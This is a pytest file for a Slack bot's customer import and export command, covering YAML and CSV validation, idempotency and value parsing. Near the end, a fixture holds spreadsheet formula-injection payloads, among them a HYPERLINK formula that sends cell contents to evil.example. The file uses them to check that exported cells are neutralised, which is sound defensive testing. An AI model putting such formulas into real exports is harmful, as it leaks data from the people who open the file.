"""`earshot customers import|export FILE` through click's CliRunner, against the test database:
YAML and CSV, validated whole, one transaction, idempotent."""

from __future__ import annotations

import asyncio

import pytest
import yaml
from click.testing import CliRunner
from sqlalchemy import select

from bot.cli.main import main
from bot.domain.customers import registry as reg
from bot.domain.customers import rules
from bot.domain.customers.rules import CustomerError
from storage.models import Customer, Workspace
from tests.conftest import TOKEN

FILE = """customers:
  - name: Acme Corp
    aliases: [ACME, Acme Inc]
    tier: Enterprise
    value: $120k
    owner: "<@U0ALICE001>"
    slack_connect: [T0ACME0001]
    channels: ["ext-acme-*"]
  - name: Initech
    tier: SMB
"""

CSV = """name,aliases,tier,value,owner,slack_connect,channels
Acme Corp,ACME;Acme Inc,Enterprise,"120,000",U0ALICE001,T0ACME0001,ext-acme-*
Initech,,SMB,,,,
Umbrella,,Mid-market,1.5M,,,#ext-umbrella-*
"""


async def earshot(database_url: str, *args: str, **more_env: str):
    runner = CliRunner()
    env = {"DATABASE_URL": database_url, "SLACK_BOT_TOKEN": "", "SLACK_SIGNING_SECRET": "", **more_env}
    return await asyncio.to_thread(runner.invoke, main, list(args), env=env, catch_exceptions=False)


async def stored(db) -> dict[str, Customer]:
    async with db() as s:
        return {c.name: c for c in (await s.scalars(select(Customer))).all()}


async def test_yaml_import_is_idempotent_and_export_round_trips(db, database_url, tmp_path):
    path = tmp_path / "customers.yaml"
    path.write_text(FILE)
    first = await earshot(database_url, "customers", "import", str(path), "--team", "T0001")
    assert first.exit_code == 0, first.output
    assert "T0001: 2 created, 0 updated, 0 unchanged." in first.output
    acme = (await stored(db))["Acme Corp"]
    assert (acme.aliases, acme.tier, acme.yearly_value, acme.owner_user_id) == (
        ["ACME", "Acme Inc"], "Enterprise", 120_000, "U0ALICE001")
    assert (acme.connect_team_ids, acme.channel_rules) == (["T0ACME0001"], ["ext-acme-*"])
    async with db() as s:
        v1 = await s.scalar(select(Workspace.customers_version))

    again = await earshot(database_url, "customers", "import", str(path))
    assert again.exit_code == 0 and "0 created, 0 updated, 2 unchanged" in again.output
    async with db() as s:
        assert await s.scalar(select(Workspace.customers_version)) == v1  # nothing written

    out = tmp_path / "export.yaml"
    exported = await earshot(database_url, "customers", "export", str(out))
    assert exported.exit_code == 0, exported.output
    data = yaml.safe_load(out.read_text())
    assert data["customers"][0] == {"name": "Acme Corp", "aliases": ["ACME", "Acme Inc"], "tier": "Enterprise",
                                    "value": 120000, "owner": "U0ALICE001", "slack_connect": ["T0ACME0001"],
                                    "channels": ["ext-acme-*"]}
    back = await earshot(database_url, "customers", "import", str(out))
    assert "0 created, 0 updated, 2 unchanged" in back.output


async def test_csv_import_and_export(db, database_url, tmp_path):
    path = tmp_path / "customers.csv"
    path.write_text(CSV)
    result = await earshot(database_url, "customers", "import", str(path), "--team", "T0001")
    assert result.exit_code == 0, result.output and "3 created" in result.output
    rows = await stored(db)
    assert rows["Acme Corp"].yearly_value == 120_000 and rows["Umbrella"].yearly_value == 1_500_000
    assert rows["Umbrella"].channel_rules == ["ext-umbrella-*"] and rows["Initech"].aliases == []
    out = tmp_path / "out.csv"
    assert (await earshot(database_url, "customers", "export", str(out))).exit_code == 0
    text = out.read_text()
    assert text.splitlines()[1] == "Acme Corp,ACME;Acme Inc,Enterprise,120000,U0ALICE001,T0ACME0001,ext-acme-*"
    again = await earshot(database_url, "customers", "import", str(out))
    assert "0 created, 0 updated, 3 unchanged" in again.output


@pytest.mark.parametrize(("text", "suffix", "message"), [
    (FILE + "  - name: acme corp\n", "yaml", "line 11: the customer “acme corp” is listed twice (also line 2)"),
    (FILE + "  - name: Globex\n    aliases: [Acme inc]\n", "yaml",
     "line 11: “Acme inc” (of “Globex”) collides with “Acme Inc” of “Acme Corp” (line 2)"),
    (FILE.replace("$120k", "lots"), "yaml", "line 2: 'value': “lots” is not a yearly value"),
    (FILE.replace("tier: SMB", "tier: [a, b]"), "yaml", "line 9: 'tier': The tier"),
    (FILE.replace('"<@U0ALICE001>"', "alice"), "yaml", "line 2: 'owner': “alice” is not a Slack user id"),
    (CSV.replace("1.5M", "1.5 bananas"), "csv", "line 4: 'value': “1.5 bananas” is not a yearly value"),
    (CSV + "ACME,,,,,,\n", "csv", "line 5: “ACME” (of “ACME”) collides with “ACME” of “Acme Corp” (line 2)"),
    ("customers:\n  - name: [x\n", "yaml", "not valid YAML"),
    ("name,colour\nAcme,red\n", "csv", "line 1: unknown column 'colour'"),
])
async def test_a_bad_file_names_the_line_and_writes_nothing(db, database_url, tmp_path, text, suffix, message):
    await reg.change(db, "T0001", None, reg.Add(rules.Entry(name="Existing")))
    path = tmp_path / f"customers.{suffix}"
    path.write_text(text)
    result = await earshot(database_url, "customers", "import", str(path), "--team", "T0001")
    assert result.exit_code == 2
    assert message in result.output and "Nothing was imported." in result.output
    assert list(await stored(db)) == ["Existing"]


async def test_the_file_may_not_collide_with_customers_it_does_not_name(db, database_url, tmp_path):
    await reg.change(db, "T0001", None, reg.Add(rules.Entry(name="Initrode", aliases=("ACME",))))
    path = tmp_path / "c.yaml"
    path.write_text(FILE)
    result = await earshot(database_url, "customers", "import", str(path), "--team", "T0001")
    assert result.exit_code == 2 and "line 2: “ACME” (of “Acme Corp”) collides with “ACME” of “Initrode” (already in the registry)" in result.output
    assert list(await stored(db)) == ["Initrode"]


@pytest.mark.parametrize(("raw", "value"), [("120000", 120_000), ("120,000", 120_000), ("$120k", 120_000),
                                            ("1.5M", 1_500_000), ("€2,5k", 2_500), ("none", None), (42, 42)])
def test_yearly_values_parse(raw, value):
    assert rules.parse_value(raw) == value


@pytest.mark.parametrize("raw", ["lots", "-5", "12k5", "1e9", True])
def test_yearly_values_that_do_not_parse(raw):
    with pytest.raises(CustomerError):
        rules.parse_value(raw)


async def test_with_a_slack_token_an_owner_slack_does_not_know_is_refused(fake, db, database_url, tmp_path):
    path = tmp_path / "c.yaml"
    slack = {"SLACK_BOT_TOKEN": TOKEN, "SLACK_API_URL": fake.api_url}
    path.write_text(FILE.replace("U0ALICE001", "U0NOBODY99"))
    refused = await earshot(database_url, "customers", "import", str(path), "--team", "T0001", **slack)
    assert refused.exit_code == 2
    assert "line 2: the owner U0NOBODY99 of “Acme Corp” is not a user of this workspace" in refused.output
    assert await stored(db) == {}
    path.write_text(FILE)  # Alice exists
    ok = await earshot(database_url, "customers", "import", str(path), "--team", "T0001", **slack)
    assert ok.exit_code == 0, ok.output
    assert [c.params["user"] for c in fake.calls_to("users.info")] == ["U0NOBODY99", "U0ALICE001"]


HOSTILE = """customers:
  - name: =HYPERLINK("https://evil.example/?x="&A1,"Open")
    aliases: ["+Acme Plus", "Acme Minus"]
    tier: "@SUM(1+1)"
  - name: "-2+3"
    tier: "=1+2"
  - name: Plain Co
    aliases: ["-"]
"""


async def test_csv_export_guards_formula_cells_and_imports_back_unchanged(db, database_url, tmp_path):
    """OWASP "CSV Injection": no cell of the export starts with = + - @ tab or CR; the import of
    the export gives back every original value."""
    import csv
    import io

    path = tmp_path / "hostile.yaml"
    path.write_text(HOSTILE)
    result = await earshot(database_url, "customers", "import", str(path), "--team", "T0001")
    assert result.exit_code == 0, result.output
    before = {n: (c.aliases, c.tier) for n, c in (await stored(db)).items()}
    assert before['=HYPERLINK("https://evil.example/?x="&A1,"Open")'] == (["+Acme Plus", "Acme Minus"], "@SUM(1+1)")
    out = tmp_path / "out.csv"
    assert (await earshot(database_url, "customers", "export", str(out))).exit_code == 0
    cells = [c for row in csv.reader(io.StringIO(out.read_text(), newline="")) for c in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert "'=HYPERLINK(\"https://evil.example/?x=\"&A1,\"Open\")" in cells
    assert {"'+Acme Plus;Acme Minus", "'@SUM(1+1)", "'-2+3", "'=1+2", "'-"} <= set(cells)
    again = await earshot(database_url, "customers", "import", str(out))
    assert "0 created, 0 updated, 3 unchanged" in again.output, again.output
    assert {n: (c.aliases, c.tier) for n, c in (await stored(db)).items()} == before


def test_guard_and_unguard_round_trip_every_text():
    from hypothesis import given
    from hypothesis import strategies as st

    from bot.domain.privacy import csvsafe

    @given(st.text(alphabet=st.sampled_from("'=+-@\t\rab 1"), max_size=6))
    def check(text: str) -> None:
        guarded = csvsafe.guard(text)
        assert csvsafe.unguard(guarded) == text
        assert guarded[:1] not in csvsafe.TRIGGERS

    check()
    assert csvsafe.guard("'Acme") == "'Acme" and csvsafe.unguard("'Acme") == "'Acme"  # hand-written stays
    assert csvsafe.guard(-0.42) == -0.42 and csvsafe.guard(None) is None  # numbers stay numbers
